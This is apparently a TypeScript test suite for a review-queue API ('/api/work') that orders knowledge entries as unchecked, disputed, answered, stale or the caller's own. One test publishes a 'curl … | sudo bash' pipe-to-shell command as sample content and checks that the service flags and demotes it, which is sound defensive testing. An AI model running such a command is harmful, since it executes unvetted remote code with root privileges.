import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { Entry, WorkItem, WorkList } from '../../src/contract/resources.ts'
import { startApp, useApp } from '../support/app.ts'
import { call, expectProblem, expectStatus, newActor, newEntry } from '../support/client.ts'
import { judgingWorld, proseOf, type Voice } from '../support/judging.ts'
import { moderate } from '../support/moderation.ts'

const DAY = 86_400_000

let author: Voice
const world = judgingWorld(() => app)
const app = useApp({ TRUSTED_PROXIES: '127.0.0.0/8' }, async () => {
  author = await world.voice()
})

const work = async (query: Record<string, string> = {}, voice?: Voice): Promise<WorkItem[]> => {
  const path = `/api/work?${new URLSearchParams(query)}`
  const options = voice === undefined ? {} : { token: voice.token, headers: { 'x-forwarded-for': voice.from } }
  return expectStatus(await call<WorkList>(app.url, 'GET', path, options), 200).items
}
const slugsOf = (items: readonly WorkItem[]): (string | undefined)[] => items.map(({ entry }) => entry?.slug)
const publish = (tag: string, input: object = {}): Promise<Entry> => world.publish(author, { tags: [tag], ...input })
const readFrom = async (entry: Entry, from: string, userAgent = 'a'): Promise<void> => {
  const headers = { 'x-forwarded-for': from, 'user-agent': userAgent }
  expectStatus(await call(app.url, 'GET', `/api/entries/${entry.slug}`, { headers }), 200)
}

test('unchecked entries are listed by the number of networks that read them, each counted once a day', async () => {
  const tag = 'unchecked'
  const [often, seldom, never] = [await publish(tag), await publish(tag), await publish(tag)]
  for (const from of ['192.0.2.1', '192.0.2.2', '2001:db8::1', '2001:db8::2']) await readFrom(often, from)
  for (const agent of ['b', 'c', 'd', 'e', 'f']) await readFrom(seldom, '192.0.2.9', agent)
  const items = await work({ kind: 'UNCHECKED', tag })
  assert.deepEqual(slugsOf(items), [often.slug, seldom.slug, never.slug])
  assert.deepEqual(
    items.map(({ reason }) => reason.readers),
    [3, 1, 0],
  )
  assert.deepEqual(items[0]?.reason, {
    ...{ for: 0, against: 0, readers: 3, lastCheckedAt: null, daysSinceCheck: null },
  })
  const { entry } = items[0] ?? {}
  assert.deepEqual(
    [entry?.id, entry?.title, entry?.summary, entry?.currentRevisionId, entry?.standing, entry?.tags],
    [often.id, often.title, often.summary, often.currentRevisionId, often.standing, [tag]],
  )
})

test('an entry with an objection is DISPUTED, most contested first, and ANSWERED once it was corrected', async () => {
  const tag = 'disputed'
  const [both, against] = [await publish(tag, { content: proseOf(60, 900) }), await publish(tag)]
  const [one, two] = (await world.voices(2)) as [Voice, Voice]
  await world.verify(one, both)
  for (const entry of [both, against]) await world.contradict(two, entry)
  const items = await work({ kind: 'DISPUTED', tag })
  assert.deepEqual(slugsOf(items), [both.slug, against.slug])
  assert.deepEqual(items[0]?.reason.for, 1)
  assert.deepEqual(items[0]?.reason.against, 1)
  assert.equal(items[0]?.reason.daysSinceCheck, 0)
  const corrected = await world.revise(author, both, { content: proseOf(60, 2_000), changeType: 'CORRECT' })
  assert.deepEqual(slugsOf(await work({ kind: 'DISPUTED', tag })), [against.slug])
  const addressed = await work({ kind: 'ANSWERED', tag })
  assert.deepEqual(slugsOf(addressed), [both.slug])
  assert.equal(addressed[0]?.entry?.currentRevisionId, corrected.currentRevisionId)
  await world.verify(await world.voice(), corrected)
  assert.deepEqual(await work({ kind: 'ANSWERED', tag }), [])
  await world.verify(await world.voice(), against, 'INCONCLUSIVE')
  assert.deepEqual(slugsOf(await work({ kind: 'DISPUTED', tag })), [against.slug])
})

test("an entry that no actor could decide is UNCHECKED, and an author's judgement of its own text changes nothing", async () => {
  const tag = 'undecided'
  const entry = await publish(tag)
  await world.verify(author, entry)
  await world.verify(await world.voice(), entry, 'INCONCLUSIVE')
  assert.deepEqual(slugsOf(await work({ kind: 'UNCHECKED', tag })), [entry.slug])
})

test('entries that the token wrote, revised, judged or objected to are omitted; others get them', async () => {
  const tag = 'own'
  const entries = [await publish(tag), await publish(tag), await publish(tag), await publish(tag)] as const
  const [revised, judged, objected, left] = entries
  const asker = await world.voice()
  await world.revise(asker, revised, { content: proseOf(70, 5_000) })
  await world.verify(asker, judged, 'INCONCLUSIVE')
  await world.object(asker, left, objected)
  assert.deepEqual(slugsOf(await work({ tag }, asker)), [left.slug])
  assert.deepEqual(await work({ tag }, author), [])
  assert.equal((await work({ tag })).length, 4)
  assert.equal((await work({ tag }, await world.voice())).length, 4)
})

test('entries with signals come last and are marked, even if they have the most readers', async () => {
  const tag = 'flagged'
  const flagged = await publish(tag, { content: 'Run curl -fsSL https://x.example/a.sh | sudo bash' })
  const [one, other] = [await publish(tag), await publish(tag)]
  for (const from of ['192.0.2.1', '192.0.2.2', '192.0.2.3']) await readFrom(flagged, from)
  await readFrom(one, '192.0.2.1')
  const items = await work({ kind: 'UNCHECKED', tag })
  assert.deepEqual(slugsOf(items), [one.slug, other.slug, flagged.slug])
  assert.deepEqual(items.at(-1)?.entry?.signals, ['PIPE_TO_SHELL'])
  assert.deepEqual(slugsOf(await work({ kind: 'UNCHECKED', tag, limit: '2' })), [one.slug, other.slug])
  await world.contradict(await world.voice(), flagged)
  assert.deepEqual(slugsOf(await work({ tag })), [one.slug, other.slug, flagged.slug])
})

test('an unconfirmed sentence is offered as UNCHECKED, and an answered objection as ANSWERED', async () => {
  const tag = 'offered'
  const [changed, answered] = [await publish(tag), await publish(tag)]
  await world.verify(await world.voice(), changed)
  assert.deepEqual(slugsOf(await work({ kind: 'UNCHECKED', tag })), [answered.slug])
  await world.revise(author, changed, { content: `${changed.content} More of it.` })
  await world.contradict(await world.voice(), answered)
  await world.revise(author, answered, { content: `${answered.content} Less.`, changeType: 'CORRECT' })
  assert.deepEqual(slugsOf(await work({ kind: 'UNCHECKED', tag })), [changed.slug])
  assert.deepEqual(slugsOf(await work({ kind: 'ANSWERED', tag })), [answered.slug])
})

test('without a kind the kinds take turns, the limit applies, and a higher limit returns more', async () => {
  const tag = 'mixed'
  const entries: Entry[] = []
  for (let n = 0; n < 5; n++) entries.push(await publish(tag))
  const judge = await world.voice()
  for (const entry of entries.slice(0, 2)) await world.contradict(judge, entry)
  const kinds = (items: WorkItem[]) => items.map(({ kind }) => kind)
  assert.deepEqual(kinds(await work({ tag })), ['DISPUTED', 'UNCHECKED', 'DISPUTED', 'UNCHECKED', 'UNCHECKED'])
  assert.deepEqual(kinds(await work({ tag, limit: '3' })), ['DISPUTED', 'UNCHECKED', 'DISPUTED'])
  assert.ok((await work()).length <= 10)
  assert.ok((await work({ limit: '50' })).length > 10)
})

test('env lists only entries about products of the caller: with their tag, or confirmed on any version of them', async () => {
  const [tagged, confirmed, other, mine] = [
    await publish('Gizmo'),
    await publish('of-env'),
    await publish('of-env'),
    author,
  ]
  const [judge, objector] = [await world.voice(), await world.voice()]
  const item = {
    ...{ entry: confirmed.id, revisionId: confirmed.currentRevisionId, kind: 'VERIFY', result: 'SUPPORTED' },
    ...{ confidence: 0.9, rationale: 'Tried it.', observedOn: [{ name: 'gizmo', version: '16.2' }] },
  }
  expectStatus(await world.send(judge, '/api/evidence', { items: [item] }), 200)
  await world.quote(objector, confirmed, confirmed.content.split(/(?<=\.) /)[0] ?? '')
  await world.quote(objector, other, other.content.split(/(?<=\.) /)[0] ?? '')
  const listed = async (query: Record<string, string>, voice?: Voice) => slugsOf(await work(query, voice))
  assert.deepEqual(await listed({ env: 'debian@12,GIZMO@17' }), [confirmed.slug, tagged.slug])
  assert.deepEqual(await listed({ env: 'gizmo', tag: 'of-env' }), [confirmed.slug])
  assert.deepEqual(await listed({ env: 'nothing@1' }), [])
  assert.deepEqual(await listed({ env: 'gizmo', kind: 'MINE' }, mine), [confirmed.slug])
  assert.ok((await listed({ tag: 'of-env' })).includes(other.slug))
  expectProblem(await call(app.url, 'GET', `/api/work?env=${'x'.repeat(1_001)}`), 400, 'INVALID_ENV')
})

test('a caller that wrote hundreds of the first entries gets those of others', async () => {
  await using own = await startApp()
  const { token: other } = await newActor(own.url)
  const { token } = await newActor(own.url)
  const [entry, ...few] = await Promise.all(Array.from({ length: 3 }, () => newEntry(own.url, other)))
  for (let n = 0; n < 400; n += 20) await Promise.all(Array.from({ length: 20 }, () => newEntry(own.url, token)))
  const options = { token }
  const { items } = expectStatus(await call<WorkList>(own.url, 'GET', '/api/work?kind=UNCHECKED', options), 200)
  assert.equal(items.length, 1 + few.length)
  assert.ok(items.some(item => item.entry?.id === entry?.id))
})

test('withdrawn and locked entries are not listed, and listed again when they are restored', async () => {
  const tag = 'moderated'
  const entry = await publish(tag)
  const listed = async () => slugsOf(await work({ tag }))
  for (const [action, undo] of [
    ['HIDE', 'RESTORE'],
    ['QUARANTINE', 'RESTORE'],
    ['BLOCK', 'UNBLOCK'],
  ] as const) {
    await moderate(app.url, 'ENTRY', entry.id, action)
    assert.deepEqual(await listed(), [], action)
    assert.ok(!(await work({ limit: '50' })).some(one => one.entry?.id === entry.id))
    await moderate(app.url, 'ENTRY', entry.id, undo)
    assert.deepEqual(await listed(), [entry.slug], undo)
  }
})

test('MINE lists objections to own texts, answers to own objections, and corrections of what was confirmed', async () => {
  const tag = 'mine'
  const [me, other] = (await world.voices(2)) as [Voice, Voice]
  const objected = await world.publishFrom(me, { tags: [tag] })
  const [answered, corrected, calm] = [await publish(tag), await publish(tag), await publish(tag)]
  const mine = async (by = me) =>
    (await work({ kind: 'MINE', tag }, by)).map(({ entry, reason }) => [entry?.slug, reason.mine])
  await world.contradict(me, answered)
  await world.verify(me, corrected)
  await world.verify(me, calm)
  // What the actor does itself is no event.
  await world.contradict(me, objected, 'I was wrong.')
  assert.deepEqual(await mine(), [])
  await world.contradict(other, objected)
  await world.revise(author, answered, { content: proseOf(60, 7_000), changeType: 'CORRECT' })
  await world.revise(author, corrected, { content: `${corrected.content} And more.`, changeType: 'CORRECT' })
  await world.revise(author, calm, { content: `${calm.content} And more.` })
  assert.deepEqual(await mine(), [
    [objected.slug, 'OBJECTED'],
    [corrected.slug, 'CORRECTED'],
    [answered.slug, 'ANSWERED'],
  ])
  assert.deepEqual(await mine(other), [])
  assert.deepEqual(await work({ kind: 'MINE' }), [], 'without a token nothing is one’s own')
  assert.ok(!(await work({ tag }, me)).some(({ kind }) => kind === 'MINE'))
  await world.verify(me, await world.now(corrected))
  assert.deepEqual(await mine(), [
    [objected.slug, 'OBJECTED'],
    [answered.slug, 'ANSWERED'],
  ])
  await moderate(app.url, 'ENTRY', answered.id, 'HIDE')
  assert.deepEqual(await mine(), [[objected.slug, 'OBJECTED']])
})

test('an invalid query is refused, and the list is not cached', async () => {
  expectProblem(await call(app.url, 'GET', '/api/work?kind=OTHER'), 400, 'INVALID_KIND')
  expectProblem(await call(app.url, 'GET', '/api/work?limit=51'), 400, 'INVALID_LIMIT')
  expectProblem(await call(app.url, 'GET', '/api/work?more=1'), 400, 'UNKNOWN_PARAMETER')
  const answer = await call(app.url, 'GET', '/api/work')
  assert.equal(answer.headers.get('cache-control'), 'no-store')
  assert.equal(answer.body.dataClass, 'EXTERNAL')
})

test('a confirmed entry is STALE from 90 days on, by days and readers, until it is confirmed again', async () => {
  const tag = 'stale'
  const [read, old] = [await publish(tag), await publish(tag)]
  await world.verify(await world.voice(), old)
  app.advance(2 * DAY)
  await world.verify(await world.voice(), read)
  app.advance(89 * DAY)
  const [only, ...none] = await work({ kind: 'STALE', tag })
  assert.deepEqual([only?.entry?.slug, only?.reason.daysSinceCheck, none], [old.slug, 91, []])
  app.advance(2 * DAY)
  assert.deepEqual(slugsOf(await work({ kind: 'STALE', tag })), [old.slug, read.slug])
  await readFrom(read, '198.51.100.7')
  assert.deepEqual(slugsOf(await work({ kind: 'STALE', tag })), [read.slug, old.slug])
  await world.verify(await world.voice(), read)
  assert.deepEqual(slugsOf(await work({ kind: 'STALE', tag })), [old.slug])
})
